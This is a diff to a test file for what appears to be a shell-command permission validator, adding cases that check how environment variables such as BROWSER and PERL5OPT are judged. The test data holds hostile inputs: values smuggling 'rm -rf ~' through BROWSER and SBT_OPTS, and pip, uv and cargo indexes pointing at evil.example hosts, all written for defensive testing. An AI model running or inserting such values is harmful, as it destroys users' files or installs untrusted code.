@@ -20,6 +20,12 @@ from clawgate.validators.envpayload import imported_module
     ("JAVA_TOOL_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=y java -jar a.jar", ASK,
      "CG-ENV-005"),
     ("SBT_OPTS='-XX:OnError=rm -rf ~' sbt test", DENY, None),
+    # a module with an import list loads code (asked) and holds no control character (a NUL
+    # in the line built for perl was one, DENY)
+    ("PERL5OPT=-MCarp=verbose prove -lr t", ASK, "CG-ESC-007"),
+    # a browser that is a command line
+    ("BROWSER='bash -c \"rm -rf ~\" #' gh repo view --web", DENY, None),
+    ("BROWSER=./firefox python3 -m webbrowser https://example.com", ASK, "CG-ESC-007"),
     ("PIP_FIND_LINKS=https://evil.example/wheels pip install x", ASK, "CG-DEST-007"),
     ("UV_EXTRA_INDEX_URL=https://evil.example/simple uv sync", ASK, "CG-DEST-007"),
     ("CARGO_REGISTRIES_MINE_INDEX=sparse+https://crates.evil.example/ cargo fetch", ASK,
@@ -39,6 +45,9 @@ def test_payload_variables(line: str, expected: Outcome, rule: str | None) -> No
     "JAVA_OPTS='-Xms512m -Xmx1g -Dspring.profiles.active=dev' java -jar app.jar",
     "JAVA_TOOL_OPTIONS='-Dfile.encoding=UTF-8' mvn -q verify",
     "SBT_OPTS='-Xss4m -XX:+UseG1GC' sbt compile",
+    # a browser is the everyday value of BROWSER
+    "BROWSER=firefox python3 -m webbrowser https://docs.python.org/3/",
+    "BROWSER=xdg-open gh repo view --web",
 ])
 def test_ordinary_values(line: str) -> None:
     assert_allowed(line)
